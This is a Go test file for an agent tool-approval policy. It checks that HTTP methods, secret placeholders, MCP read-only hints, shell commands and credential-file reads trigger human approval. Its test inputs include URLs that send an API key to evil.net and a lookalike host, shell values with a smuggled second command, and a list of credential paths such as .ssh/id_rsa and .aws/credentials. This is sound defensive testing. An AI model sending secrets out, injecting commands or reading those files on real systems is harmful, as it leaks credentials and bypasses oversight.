package approval

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
)

func httpCall(args string) Call {
	return Call{Tool: "http_request", Args: args, ReadOnly: true}
}

func TestNeedsHTTPMethods(t *testing.T) {
	tests := []struct {
		args string
		ask  bool
	}{
		{`{"url":"https://x.com/"}`, false},
		{`{"url":"https://x.com/","method":"GET"}`, false},
		{`{"url":"https://x.com/","method":"get"}`, false},
		{`{"url":"https://x.com/","method":" Get "}`, false},
		{`{"url":"https://x.com/","method":"HEAD"}`, false},
		{`{"url":"https://x.com/","method":"options"}`, false},
		{`{"url":"https://x.com/","method":"POST"}`, true},
		{`{"url":"https://x.com/","method":"put"}`, true},
		{`{"url":"https://x.com/","method":"DELETE"}`, true},
		{`{"url":"https://x.com/","method":"PATCH"}`, true},
		{`{"url":"https://x.com/","method":"TRACE"}`, true},
		{`{"url":"https://x.com/","method":"GETX"}`, true},
		{`{"url":"https://x.com/","method":7}`, true},
		{`{"url":"https://x.com/","method":"GET","METHOD":"POST"}`, true},
		{`{"url":"https://x.com/","Method":"POST"}`, true},
		{`{"url":"https://x.com/","headers":{"X-HTTP-Method-Override":"DELETE"}}`, true},
		{`{"url":"https://x.com/","headers":{"x-http-method-override":"DELETE"}}`, true},
		{`{"url":"https://x.com/","headers":{"X-HTTP-Method":"DELETE"}}`, true},
		{`{"url":"https://x.com/","headers":{"x-method-override":"PUT"}}`, true},
		{`{"url":"https://x.com/","headers":{" X-Method-Override ":"PUT"}}`, true},
		{`{"url":"https://x.com/","headers":{"Accept":"text/html"}}`, false},
		{`{"url":"https://x.com/","headers":"x"}`, true},
		{`not json`, true},
	}
	for _, tt := range tests {
		v := needsTool(httpCall(tt.args), Policy{})
		require.Equal(t, tt.ask, v.Ask, tt.args)
		if v.Ask {
			require.NotEmpty(t, v.Reasons, tt.args)
		} else {
			require.Equal(t, DecisionNotNeeded, v.Decision)
		}
	}
	v := needsTool(httpCall(`{"url":"https://x.com/","method":"POST"}`), Policy{})
	require.Equal(t, []string{`it sends an HTTP "POST"`}, v.Reasons)
}

func TestNeedsSecrets(t *testing.T) {
	get := `{"url":"https://api.example.com/v1?key={{secret:API_KEY}}"}`
	v := needsTool(httpCall(get), Policy{AutoApprove: true})
	require.True(t, v.Ask, "a GET that sends a secret asks, even with auto_approve")
	require.True(t, v.Always)
	require.Equal(t, []string{"it sends secret API_KEY to api.example.com"}, v.Reasons)

	for _, args := range []string{
		`{"url":"https://api.example.com/","headers":{"Authorization":"Bearer {{secret:API_KEY}}"}}`,
		`{"url":"https://api.example.com/","headers":{"{{ secret:API_KEY }}":"x"}}`,
		`{"url":"https://api.example.com/","body":"{\"k\":\"{{secret:API_KEY}}\"}"}`,
		`{"url":"https://api.example.com/","body":"\u007b\u007bsecret:API_KEY}}"}`,
	} {
		require.True(t, needsTool(httpCall(args), Policy{}).Ask, args)
	}

	allow := Rule{Tool: "http_request", Pattern: "GET https://api.example.com/*", Secret: "API_KEY"}
	v = needsTool(httpCall(get), Policy{Rules: []Rule{allow}})
	require.False(t, v.Ask)
	require.Equal(t, DecisionRule, v.Decision)
	require.Equal(t, []Rule{allow}, v.Rules)

	// The allowance is for that secret, that host, that method.
	require.True(t, needsTool(httpCall(`{"url":"https://evil.net/?k={{secret:API_KEY}}"}`), Policy{Rules: []Rule{allow}}).Ask)
	require.True(t, needsTool(httpCall(`{"url":"https://api.example.com.evil.net/?k={{secret:API_KEY}}"}`), Policy{Rules: []Rule{allow}}).Ask)
	require.True(t, needsTool(httpCall(`{"url":"https://api.example.com/?k={{secret:OTHER}}"}`), Policy{Rules: []Rule{allow}}).Ask)
	require.True(t, needsTool(httpCall(`{"url":"https://api.example.com/?k={{secret:API_KEY}}&o={{secret:OTHER}}"}`), Policy{Rules: []Rule{allow}}).Ask)
	post := `{"url":"https://api.example.com/v1","method":"POST","body":"{{secret:API_KEY}}"}`
	require.True(t, needsTool(httpCall(post), Policy{Rules: []Rule{allow}}).Ask, "a POST needs its own approval")
	postRule := Rule{Tool: "http_request", Pattern: "POST https://api.example.com/*"}
	require.True(t, needsTool(httpCall(post), Policy{Rules: []Rule{postRule}}).Ask, "a rule for the POST does not allow the secret")
	anyMethod := Rule{Tool: "http_request", Pattern: "* https://api.example.com/*", Secret: "API_KEY"}
	v = needsTool(httpCall(post), Policy{Rules: []Rule{postRule, anyMethod}})
	require.False(t, v.Ask)
	require.Equal(t, []Rule{postRule, anyMethod}, v.Rules)
	exact := Rule{Tool: "http_request", Args: post}
	require.False(t, needsTool(httpCall(post), Policy{Rules: []Rule{exact}}).Ask, "an exact approval covers its secrets")
	require.True(t, needsTool(httpCall(post), Policy{AutoApprove: true}).Ask)
}

func TestNeedsMCP(t *testing.T) {
	hinted := Call{Tool: "mcp_fs_delete", Args: `{}`, ReadOnly: true, MCP: true}
	v := needsTool(hinted, Policy{})
	require.True(t, v.Ask, "a server's own readOnlyHint never skips approval")
	require.Contains(t, v.Reasons[0], "trust_read_only_hints")
	hinted.TrustReadOnlyHints = true
	require.False(t, needsTool(hinted, Policy{}).Ask, "the operator trusts the server")
	trustedWriter := Call{Tool: "mcp_fs_write", Args: `{}`, MCP: true, TrustReadOnlyHints: true}
	require.True(t, needsTool(trustedWriter, Policy{}).Ask)
	require.Equal(t, DecisionAuto, needsTool(trustedWriter, Policy{AutoApprove: true}).Decision)
}

// A user tool's read-only class skips approval only on a queue that
// TOOL_QUEUES marks trusted (Y2).
func TestNeedsUserToolQueueY2(t *testing.T) {
	ro := Call{Tool: "lookup_order", Args: `{}`, ReadOnly: true, Queue: "orders"}
	v := needsTool(ro, Policy{})
	require.True(t, v.Ask, "a tool worker's own read_only never skips approval")
	require.Contains(t, v.Reasons[0], "queue orders")
	ro.TrustReadOnlyHints = true
	require.False(t, needsTool(ro, Policy{}).Ask, "the operator trusts the queue")
	writer := Call{Tool: "refund_order", Args: `{}`, Queue: "orders", TrustReadOnlyHints: true}
	require.True(t, needsTool(writer, Policy{}).Ask)
}

// A user tool's call that sends a secret asks every time (Y3, T5): on a
// trusted queue, read-only, under auto_approve, and with a pattern rule.
func TestNeedsUserToolSecretsY3(t *testing.T) {
	c := Call{Tool: "lookup_order", Args: `{"id":"{{ secret:api }}"}`, ReadOnly: true, Queue: "orders", TrustReadOnlyHints: true, SecretsAsk: true}
	v := needsTool(c, Policy{AutoApprove: true, Rules: []Rule{{Tool: "lookup_order", Pattern: "*"}}})
	require.True(t, v.Ask)
	require.True(t, v.Always)
	require.Contains(t, strings.Join(v.Reasons, "; "), "it sends secret api to lookup_order, a tool of queue orders")
	exact := needsTool(c, Policy{Rules: []Rule{{Tool: "lookup_order", Args: c.Args}}})
	require.False(t, exact.Ask, "a person's exact rule covers these very arguments")
	c.SecretsAsk = false // a round recorded before the change
	require.False(t, needsTool(c, Policy{}).Ask)
}

func TestNeedsSensitiveReads(t *testing.T) {
	for _, args := range []string{
		`{"paths":["config/.env"]}`, `{"paths":["a.txt","home/.ssh/id_rsa"]}`, `{"paths":["x/.SSH/config"]}`,
		`{"paths":["SERVER.PEM"]}`, `{"paths":[".netrc"]}`, `{"paths":[".aws/credentials"]}`, `{"paths":["a/ID_RSA.pub"]}`,
		`{"paths":["prod.key"]}`, `{"paths":[".Env.Production"]}`, `{"paths":["a.txt"],"PATHS":[".env"]}`, `{"Paths":[".env"]}`,
	} {
		c := Call{Tool: "read_files", Args: args, ReadOnly: true}
		allTurn := Policy{AutoApprove: true, Rules: []Rule{{Tool: "read_files", Pattern: "**"}, {Tool: "read_files", Args: args}}}
		v := needsTool(c, allTurn)
		require.True(t, v.Ask, args)
		require.True(t, v.Always, args)
		require.Empty(t, v.Decision)
	}
	require.False(t, needsTool(Call{Tool: "read_files", Args: `{"paths":["main.go","docs/keys.md"]}`, ReadOnly: true}, Policy{}).Ask)
	v := needsTool(Call{Tool: "read_files", Args: `{"paths":["main.go"]}`, ReadOnly: true, Sensitive: true}, Policy{AutoApprove: true})
	require.True(t, v.Ask && v.Always, "the tool's own Sensitive check counts too")
}

func TestNeedsRulesAndAutoApprove(t *testing.T) {
	git := Call{Tool: "run_command", Args: cmdArgs("git status")}
	v := needsTool(git, Policy{})
	require.True(t, v.Ask)
	require.False(t, v.Always)
	require.Equal(t, []string{"it runs a shell command"}, v.Reasons)

	rules := cmdRules("git *")
	v = needsTool(git, Policy{Rules: rules})
	require.False(t, v.Ask)
	require.Equal(t, DecisionRule, v.Decision)
	require.Equal(t, rules, v.Rules)
	require.True(t, needsTool(Call{Tool: "run_command", Args: cmdArgs("git status; touch X")}, Policy{Rules: rules}).Ask)
	require.True(t, needsTool(Call{Tool: "run_command", Args: cmdArgs("git $(touch X)")}, Policy{Rules: rules}).Ask)

	require.Equal(t, DecisionAuto, needsTool(git, Policy{AutoApprove: true}).Decision)
	require.True(t, needsTool(git, Policy{AutoApprove: true, DenyAutoApprove: true}).Ask, "AUTO_APPROVE=deny")
	require.Equal(t, DecisionRule, needsTool(git, Policy{AutoApprove: true, DenyAutoApprove: true, Rules: rules}).Decision)

	require.Equal(t, DecisionNotNeeded, needsTool(Call{Tool: "write_todo", Args: `{}`, ConfirmNever: true}, Policy{}).Decision)
	require.Equal(t, DecisionNotNeeded, needsTool(Call{Tool: "calculate", Args: `{}`, ReadOnly: true}, Policy{}).Decision)
	require.Equal(t, []string{`it changes "a.go"`}, needsTool(Call{Tool: "edit_file", Args: `{"path":"a.go","new_text":""}`}, Policy{}).Reasons)
	require.Equal(t, []string{`it removes "a.go"`}, needsTool(Call{Tool: "remove_file", Args: `{"path":"a.go"}`}, Policy{}).Reasons)
	require.True(t, needsTool(Call{Tool: "remove_file", Args: `{"path":"a.go"}`}, Policy{Rules: []Rule{{Tool: "edit_file", Pattern: "**"}}}).Ask)
}

func TestSensitivePath(t *testing.T) {
	for _, p := range []string{".env", "app/.env.local", "certs/server.key", "id_rsa", "home/.ssh/config", ".aws/credentials",
		"x/credentials.json", ".npmrc", "prod.pem", "PROD.PEM", "A/.SSH/x", "x\\.ssh\\id", "id_ed25519.pub", ".git-credentials",
		".config/gcloud/x.json", ".docker/config.json", ".kube/config", ".netrc", ".pgpass", "deploy_rsa"} {
		require.True(t, SensitivePath(p), p)
	}
	for _, p := range []string{"main.go", "README.md", "environment.go", "keyboard.txt", "docs/keys.md", "src/env.go", "ssh.go"} {
		require.False(t, SensitivePath(p), p)
	}
}

func TestParseAutoApprove(t *testing.T) {
	for v, want := range map[string]bool{"": false, "allow": false, "deny": true, " DENY ": true, "Allow": false} {
		got, err := ParseAutoApprove(v)
		require.NoError(t, err, v)
		require.Equal(t, want, got, v)
	}
	for _, v := range []string{"no", "false", "0", "denied"} {
		_, err := ParseAutoApprove(v)
		require.ErrorContains(t, err, "AUTO_APPROVE", v)
	}
}
